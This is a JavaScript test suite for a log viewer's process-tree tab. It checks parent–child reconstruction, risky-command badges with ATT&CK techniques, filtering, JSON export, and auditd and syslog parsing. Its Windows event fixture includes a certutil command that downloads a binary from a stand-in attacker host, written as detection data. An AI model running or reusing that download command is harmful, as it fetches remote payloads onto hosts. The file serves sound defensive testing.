// The processes of a log: the tree, what is risky in it, filters, and logs that have none.
import assert from "node:assert/strict";
import fs from "node:fs";
import test from "node:test";
import { demo } from "./helpers.mjs";

const row = (minute, name, id, parent, parentName, command) =>
  `4688,2026-03-01T10:${minute}:00Z,WS1,ann,0x${id},C:\\Windows\\${name},0x${parent},C:\\Windows\\${parentName},${command}`;
const LOG = `EventID,TimeGenerated,Computer,SubjectUserName,NewProcessId,NewProcessName,ProcessId,ParentProcessName,CommandLine
${row("01", "cmd.exe", "20", "10", "explorer.exe", "cmd.exe /k")}
${row("02", "whoami.exe", "30", "20", "cmd.exe", "whoami /all")}
${row("03", "notepad.exe", "40", "10", "explorer.exe", "notepad.exe a.txt")}
4624,2026-03-01T10:04:00Z,WS1,ann,,,,,
${row("05", "certutil.exe", "50", "20", "cmd.exe", "certutil.exe -urlcache -split -f http://evil.example.com/a.bin")}
`;

async function processes(t, log = LOG) {
  const all = await demo(t);
  await all.open(() => all.choose(["x.csv", log]));
  await all.openTab("processes");
  return { ...all, names: async () => (await all.tree("process")).map(([level, name]) => [level, name]) };
}

test("who started what, with the parents that the log does not have", async (t) => {
  const { page, text, names, tree } = await processes(t);
  assert.deepEqual(await names(), [[1, "▾explorer.exe"], [2, "▾cmd.exe"], [3, "whoami.exe"], [3, "certutil.exe"], [2, "notepad.exe"]]);
  assert.equal(await text("#processes-tab small"), "5");
  await page.setViewportSize({ width: 2400, height: 800 });
  await page.waitForSelector("#process-grid .row [aria-colindex='6']");
  assert.deepEqual((await tree("process"))[4], [2, "notepad.exe", "notepad.exe a.txt", "0x40", "ann", "2026-03-01 10:03:00", "WS1"]);
});

test("risky command lines carry their rule and technique; those alone can be shown", async (t) => {
  const { page, text, names, said } = await processes(t);
  assert.match(await text("#process-grid .row:has-text('certutil') .badge"), /^T1105 /);
  assert.equal(await text("#risky-count"), "2");
  await page.check("#risky-only");
  assert.deepEqual(await names(), [[1, "▾explorer.exe"], [2, "▾cmd.exe"], [3, "whoami.exe"], [3, "certutil.exe"]]);
  assert.equal((await page.$$("#process-grid .row.faint")).length, 2);
  await page.fill("#process-filter", "URLCACHE");
  await said(/^1 process found/);
  assert.equal((await names()).length, 3);
  await page.uncheck("#risky-only");
  await page.fill("#process-filter", "");
  await said(/^All processes shown\.$/);
  assert.equal((await names()).length, 5);
});

test("a chosen process is shown in the log, with what rules say of it", async (t) => {
  const { page, text, marked, said } = await processes(t);
  await page.click("#process-grid .row:has-text('certutil') .branch");
  await said(/^certutil\.exe \(0x50\) in row 5; .*T1105/);
  assert.equal((await marked())[0], "5");
  assert.match(await text("#process-about"), /^(high|critical|medium|low) .*T1105/);
  await page.click("#process-grid .row:has-text('notepad') .branch");
  await said(/^notepad\.exe \(0x40\) in row 3\.$/);
  assert.ok(await page.isHidden("#process-about"));
  assert.equal(await page.$("#row-grid mark"), null);
  await page.click("#process-grid .row:has-text('explorer') .branch");
  await said(/^explorer\.exe \(0x10\) is not in this log/);
});

test("the tree is saved as shown", async (t) => {
  const { page } = await processes(t);
  await page.check("#risky-only");
  await page.click("#process-export");
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#process-export + .menu button:has-text('JSON')")]);
  assert.equal(download.suggestedFilename(), "x-processes.json");
  assert.deepEqual(JSON.parse(fs.readFileSync(await download.path())).map(({ NewProcessId, Depth }) => [NewProcessId, Depth]), [["0x30", 3], ["0x50", 3]]);
});

test("a log without processes says so in its tab, and is no alarm", async (t) => {
  const { page, text } = await processes(t, "a,b\n1,2\n");
  assert.match(await text("#processes-notice"), /^No process schema fits this table/);
  assert.ok(await page.isHidden("#error"));
  assert.ok(await page.isHidden("#process-filter"));
  assert.equal(await text("#processes-tab small"), "");
});

test("columns of a log may have any name", async (t) => {
  const { rows } = await processes(t, "heading,level,open,faint\nh,1,true,x\n");
  assert.deepEqual(await rows(), [["1", "h", "1", "true", "x"]]);
});

test("an audit log is read as events, whose processes are a tree; its lines are one click away", async (t) => {
  const { page, open, openTab, text, tree } = await demo(t, { sample: "audit.log" });
  assert.match(await text("#facts"), /^events of [\d,]+ lines \(auditd\)/);
  await openTab("processes");
  await page.check("#risky-only");
  const found = await tree("process");
  assert.deepEqual(new Set(found.filter(([level]) => level > 2).map(([, name]) => name)), new Set(["chmod", "crontab", "bash"]));
  assert.ok(found.some(([level, name, command]) => level === 3 && name === "crontab" && /^T1053/.test(command)), JSON.stringify(found));
  await open(() => page.click("#as-lines"));
  assert.match(await text("#facts"), /^text · utf-8 · [\d,]+ rows × 2 columns$/);
  assert.ok(await page.isHidden("#as-lines"));
});

test("syslog is read as messages; a log of which a line is none stays lines", async (t) => {
  const { open, choose, text } = await demo(t, { sample: "syslog.log" });
  assert.match(await text("#facts"), /^events of [\d,]+ lines \(syslog\)/);
  await open(() => choose(["x.log", "type=SYSCALL msg=audit(1773101220.353:1): pid=1\nno record at all\n"]));
  assert.match(await text("#facts"), /^text/);
});
